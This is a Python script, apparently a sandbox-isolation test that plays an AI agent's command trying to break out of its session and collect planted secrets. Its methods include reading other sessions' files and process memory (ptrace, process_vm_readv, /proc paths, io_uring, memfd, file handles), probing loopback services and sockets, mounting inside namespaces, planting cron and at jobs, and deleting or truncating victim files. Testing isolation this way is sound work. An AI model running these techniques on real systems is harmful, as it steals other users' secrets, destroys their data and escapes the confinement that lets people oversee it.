"""What an agent's command can try to get out of its session: `attacking_agent.py <task.json>`.

Needs nothing but Python's standard library. The task names what is worth a look; everything that can be read
is appended to the file `loot`, every act that succeeded to `acts`, and at the end `done` is made, all beside
the task. Who planted the secrets looks for them in there.
"""

from __future__ import annotations

import contextlib
import ctypes
import http.client
import itertools
import json
import mmap
import os
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

BOUND = 2_000_000
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
SYS_MEMFD_CREATE = {"x86_64": 319, "aarch64": 279}.get(os.uname().machine, -1)
SYS_IO_URING_SETUP = 425
SYS_IO_URING_ENTER = 426
LOOPBACKS = (
    *("127.0.0.1", "127.0.0.2", "127.1", "0", "0.0.0.0", "0x7f000001", "2130706433", "0177.0.0.1"),
    *("localhost", "localhost.localdomain", "ip6-localhost", "::1", "::", "::ffff:127.0.0.1"),
    "::ffff:7f00:1",
)
"""This machine under many names; its own and those of its interfaces are added."""
PATHS = (
    "/v1/sessions",
    "/v1/vaults",
    "/session",
    "/permission",
    "/config",
    "/metrics",
    "/admin/config",
)


class Agent:
    """Tries everything; keeps what came of it."""

    def __init__(self, task_file: Path) -> None:
        self.here = task_file.parent
        self.task = json.loads(task_file.read_text())
        self.loot = (self.here / "loot").open("wb")
        self.acts: list[str] = []

    def take(self, name: str, content: bytes) -> None:
        self.loot.write(f"\n--- {name}\n".encode() + content[:BOUND])
        self.loot.flush()

    def read(self, path: str) -> None:
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            return
        try:
            self.take(path, os.read(descriptor, BOUND))
        except OSError:
            pass
        finally:
            os.close(descriptor)

    def shut(self, name: str, attempt: Callable[[], object]) -> None:
        """Note the act if it succeeds, whatever else it raises."""
        try:
            attempt()
        except Exception:
            return
        self.acts.append(name)

    def act(self, name: str, attempt: Callable[[], object]) -> None:
        """Note the act if it succeeds."""
        try:
            attempt()
        except (OSError, subprocess.SubprocessError):
            return
        self.acts.append(name)

    def files(self) -> None:
        """Every way to a file of another session."""
        for number, path in enumerate(self.task["files"]):
            link, hard = self.here / f"link{number}", self.here / f"hard{number}"
            self.read(path)
            self.read(f"/proc/self/root{path}")
            self.read(f"/proc/{os.getppid()}/root{path}")
            self.read(f"/proc/self/cwd/../../../../../../../../..{path}")
            self.act(
                f"symlink {path}", lambda p=path, to=link: os.symlink(p, to) or open(to).close()
            )
            self.read(str(link))
            self.act(f"hard link {path}", lambda p=path, to=hard: os.link(p, to))
            self.read(str(hard))
            self.by_descriptor(path)
            for command in (["cp", path, "copied"], ["tar", "cf", "archive", path], ["cat", path]):
                self.run(command)
            if self.task["is_harmless"]:
                continue
            self.act(f"move {path}", lambda p=path: os.rename(p, self.here / "moved"))
            self.act(f"truncate {path}", lambda p=path: os.truncate(p, 0))
            self.act(f"write {path}", lambda p=path: open(p, "ab").close())
            self.act(f"delete {path}", lambda p=path: os.unlink(p))
        for directory in [] if self.task["is_harmless"] else self.task["directories"]:
            self.act(f"list {directory}", lambda d=directory: os.listdir(d))
            self.act(f"make in {directory}", lambda d=directory: open(f"{d}/intruder", "w").close())
            self.act(f"make dir in {directory}", lambda d=directory: os.mkdir(f"{d}/intruders"))
            self.act(f"link in {directory}", lambda d=directory: os.symlink("nowhere", f"{d}/out"))
            for folder, _, names in os.walk(directory):
                for name in names:
                    self.read(os.path.join(folder, name))
            self.run(["git", "clone", "-q", f"file://{directory}", "cloned"])
            self.run(["git", "diff", "--no-index", "/dev/null", directory])
            self.run(["grep", "-ra", "", directory])

    def by_descriptor(self, path: str) -> None:
        """Through a descriptor of the directory, and /dev/fd."""
        try:
            folder = os.open(os.path.dirname(path), os.O_PATH)
        except OSError:
            return
        try:
            name = os.path.basename(path)
            self.read(f"/dev/fd/{folder}/{name}")
            self.read(f"/proc/self/fd/{folder}/{name}")
            held = os.open(name, os.O_PATH, dir_fd=folder)
            self.read(f"/dev/fd/{held}")
            os.close(held)
        except OSError:
            pass
        finally:
            os.close(folder)

    def mounts(self) -> None:
        """Mounts of /proc and of what is worth it: only in a mount namespace of their own, never in ours.

        What is mounted in ours stays mounted, and whoever clears the workspace away deletes through it.
        """
        if self.task["is_harmless"]:
            return
        (self.here / "mnt").mkdir(exist_ok=True)
        for options in ("-rm", "-m"):
            for mounting in ("-t proc proc mnt", f"--bind {self.task['victim']} mnt"):
                script = f"mount {mounting} && echo mounted && cat mnt/*/environ mnt/*"
                command = [
                    "unshare",
                    f"-{options[1:]}",
                    "--propagation",
                    "private",
                    "sh",
                    "-c",
                    script,
                ]
                if b"mounted" in self.run(command):
                    self.acts.append(f"mount {mounting}")

    def processes(self) -> None:
        """Environments, memory, open files, working directories of all others."""
        mine = self.lineage()
        for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
            if self.task["is_harmless"] and pid not in self.task["processes"]:
                continue
            for name in ("environ", "maps", "auxv", "mem", "stack"):
                self.read(f"/proc/{pid}/{name}")
            if pid in mine:
                continue
            for kind in ("fd", "map_files"):
                try:
                    entries = os.listdir(f"/proc/{pid}/{kind}")
                except OSError:
                    continue
                for entry in entries:
                    self.read(f"/proc/{pid}/{kind}/{entry}")
            for path in self.task["files"]:
                self.read(f"/proc/{pid}/root{path}")
            self.read(f"/proc/{pid}/cwd/secret.key")
            self.read(f"/proc/{pid}/cwd/diary.txt")
            if pid in self.task["processes"]:
                self.at_process(pid)

    def at_process(self, pid: int) -> None:
        """Signals, ptrace, memory, of one that matters. SIGWINCH does no harm."""
        self.act(f"signal {pid}", lambda: os.kill(pid, signal.SIGWINCH))
        self.act(f"pidfd {pid}", lambda: self.by_pidfd(pid))
        if not self.task["is_harmless"] and LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
            self.acts.append(f"ptrace {pid}")
        self.act(f"stop {pid}", lambda: self.stop(pid))
        self.act(f"namespace of {pid}", lambda: os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY))
        buffer = ctypes.create_string_buffer(4096)
        local = struct.pack("PN", ctypes.addressof(buffer), 4096)
        for line in self.maps(pid):
            remote = struct.pack("PN", int(line.split("-")[0], 16), 4096)
            if LIBC.process_vm_readv(pid, local, 1, remote, 1, 0) > 0:
                self.acts.append(f"process_vm_readv {pid}")
                self.take(f"memory of {pid}", buffer.raw)

    def by_pidfd(self, pid: int) -> None:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGWINCH)

    def stop(self, pid: int) -> None:
        """Stop it, and at once let it go on."""
        os.kill(pid, signal.SIGSTOP if not self.task["is_harmless"] else 0)
        os.kill(pid, signal.SIGCONT)

    @staticmethod
    def maps(pid: int) -> list[str]:
        try:
            return Path(f"/proc/{pid}/maps").read_text().splitlines()[:50]
        except OSError:
            return ["400000-"]

    @staticmethod
    def lineage() -> set[int]:
        return {os.getpid(), os.getppid()}

    def ports(self) -> None:
        """Everything that listens on the loopback, without a key and under all its names."""
        for port in sorted(set(self.listening())):
            for path in PATHS:
                self.ask("127.0.0.1", port, path)
            for host in dict.fromkeys((*LOOPBACKS, socket.gethostname(), *self.addresses())):
                for path in PATHS[:2]:
                    self.ask(host, port, path)

    def ask(self, host: str, port: int, path: str) -> None:
        connection = http.client.HTTPConnection(host, port, timeout=3)
        try:
            connection.request("GET", path)
            answer = connection.getresponse()
            self.take(f"http://{host}:{port}{path} {answer.status}", answer.read(BOUND))
        except (OSError, http.client.HTTPException):
            pass
        finally:
            connection.close()

    @staticmethod
    def addresses() -> Iterator[str]:
        """This machine's own addresses, link-local ones with their interface."""
        with contextlib.suppress(OSError):
            for line in Path("/proc/net/if_inet6").read_text().splitlines():
                digits, *_, name = line.split()
                yield socket.inet_ntop(socket.AF_INET6, bytes.fromhex(digits)) + f"%{name}"
        with contextlib.suppress(OSError):
            lines = Path("/proc/net/fib_trie").read_text().splitlines()
            for before, line in itertools.pairwise(lines):
                if "host LOCAL" in line:
                    yield before.split()[-1]

    def listening(self) -> Iterator[int]:
        wanted = {int(port) for port in self.task["ports"]}
        for name in ("tcp", "tcp6"):
            try:
                lines = Path(f"/proc/net/{name}").read_text().splitlines()[1:]
            except OSError:
                continue
            for line in lines:
                local, state = line.split()[1], line.split()[3]
                if state == "0A" and (port := int(local.rpartition(":")[2], 16)) in wanted:
                    yield port

    def sockets(self) -> None:
        """The plug-in's socket and the keepers of other sessions."""
        for path in self.task["sockets"]:
            body = json.dumps({"directory": self.task["victim"]})
            head = f"POST /shell-environment HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}"
            request = f"{head}\r\n\r\n{body}"
            self.over_socket(path, request.encode(), [])
        victim = self.task["victim"].encode()
        words = [victim, b"/bin/cat", b"/bin/cat", *(f.encode() for f in self.task["files"])]
        text = b"".join(word + b"\0" for word in words)
        header = struct.pack("III", len(text), len(words) - 1, 0)
        for path in self.task["keepers"]:
            reader, writer = os.pipe()
            self.over_socket(path, header + text, [writer, writer, writer])
            os.close(writer)
            os.set_blocking(reader, False)
            try:
                self.take(f"keeper {path}", os.read(reader, BOUND))
            except OSError:
                self.take(f"keeper {path}", b"")

    def over_socket(self, path: str, request: bytes, descriptors: list[int]) -> None:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(3)
            try:
                connection.connect(path)
                socket.send_fds(connection, [request], descriptors)
                self.take(f"socket {path}", connection.recv(BOUND))
            except OSError:
                pass

    def terminals(self) -> None:
        """What is typed at a terminal of this user; nothing is pushed into it where that would do harm."""
        for path in self.task["terminals"]:
            self.read(path)
            self.act(f"open {path}", lambda p=path: os.close(os.open(p, os.O_WRONLY | os.O_NOCTTY)))

    def abstract_sockets(self) -> None:
        """Every abstract socket of this machine that is not ours."""
        names = {
            line.split(maxsplit=7)[7]
            for line in Path("/proc/net/unix").read_text().splitlines()[1:]
            if " @" in line
        }
        for name in names:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(3)
                try:
                    connection.connect("\0" + name[1:])
                    self.take(f"abstract socket {name}", connection.recv(BOUND))
                except OSError:
                    continue

    def other_calls(self) -> None:
        """The same files by other system calls, and by programs that are in no file."""
        program = Path(shutil.which("cat") or "/bin/cat").read_bytes()
        for path in self.task["files"]:
            self.by_ring(path)
            name = LIBC.syscall(SYS_MEMFD_CREATE, b"cat", 0)
            if name >= 0:
                os.write(name, program)
                self.run([f"/proc/{os.getpid()}/fd/{name}", path])
                os.close(name)
            if not self.task["is_harmless"]:
                handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
                mount = ctypes.c_int()
                if LIBC.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
                    folder = os.open(self.here, os.O_RDONLY)
                    opened = LIBC.open_by_handle_at(folder, handle, os.O_RDONLY)
                    os.close(folder)
                    if opened >= 0:
                        self.take(f"handle of {path}", os.read(opened, BOUND))
                        os.close(opened)

    def by_ring(self, path: str) -> None:
        """Open and read with io_uring, as the kernel's thread could do it."""
        parameters = ctypes.create_string_buffer(120)
        ring = LIBC.syscall(SYS_IO_URING_SETUP, 4, parameters)
        if ring < 0:
            return
        try:
            offsets = struct.unpack_from("10I", parameters.raw, 40)
            completions = struct.unpack_from("10I", parameters.raw, 80)
            size = max(offsets[6] + 4 * 4, completions[5] + 8 * 16) + 4096
            queue = mmap.mmap(ring, size, mmap.MAP_SHARED | mmap.MAP_POPULATE)
            entries = mmap.mmap(
                ring, 4 * 64, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0x10000000
            )
            name = ctypes.create_string_buffer(path.encode())
            opening = struct.pack(
                "BBHiQQIIQ", 18, 0x10, 0, -100, 0, ctypes.addressof(name), 0, 0, 1
            )
            entries[: len(opening)] = opening
            struct.pack_into("I", queue, offsets[6], 0)
            struct.pack_into(
                "I", queue, offsets[1], struct.unpack_from("I", queue, offsets[1])[0] + 1
            )
            LIBC.syscall(SYS_IO_URING_ENTER, ring, 1, 1, 1, None, 0)
            result = struct.unpack_from("i", queue, completions[5] + 8)[0]
            if result >= 0:
                self.take(f"io_uring {path}", os.read(result, BOUND))
                os.close(result)
        except (OSError, ValueError, struct.error):
            pass
        finally:
            os.close(ring)

    def cores(self) -> None:
        """A crash leaves no image of memory behind, and the bound on that cannot be raised."""
        unlimited = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
        self.shut("raise RLIMIT_CORE", lambda: resource.setrlimit(resource.RLIMIT_CORE, unlimited))
        subprocess.run(
            ["sh", "-c", "ulimit -c unlimited; kill -SEGV $$"], cwd=self.here, check=False
        )
        if list(self.here.glob("core*")):
            self.acts.append("core dump")

    def schedules(self) -> None:
        """Programs that others would start for us: cron, at, a user's systemd."""
        if self.task["is_harmless"]:
            return
        (self.here / "tab").write_text(f"* * * * * touch {self.here}/started\n")
        for command in (
            ["crontab", str(self.here / "tab")],
            ["at", "-f", str(self.here / "tab"), "now"],
        ):
            if shutil.which(command[0]) is None:
                continue
            done = subprocess.run(command, capture_output=True, timeout=60, check=False)
            if done.returncode == 0:
                self.acts.append(command[0])

    def run(self, command: list[str]) -> bytes:
        if shutil.which(command[0]) is None:
            return b""
        try:
            done = subprocess.run(
                command, cwd=self.here, capture_output=True, timeout=20, check=False
            )
        except subprocess.TimeoutExpired:
            return b""
        self.take(" ".join(command)[:200], done.stdout)
        return done.stdout

    def close(self) -> None:
        (self.here / "acts").write_text(json.dumps(self.acts))
        self.loot.close()
        (self.here / "done").touch()


def main(task: str) -> None:
    agent = Agent(Path(task).resolve())
    agent.take("own environment", json.dumps(dict(os.environ)).encode())
    for step in (
        *(agent.files, agent.mounts, agent.sockets, agent.processes, agent.ports),
        *(agent.terminals, agent.abstract_sockets, agent.other_calls, agent.cores, agent.schedules),
    ):
        step()
    agent.close()


if __name__ == "__main__":
    main(sys.argv[1])
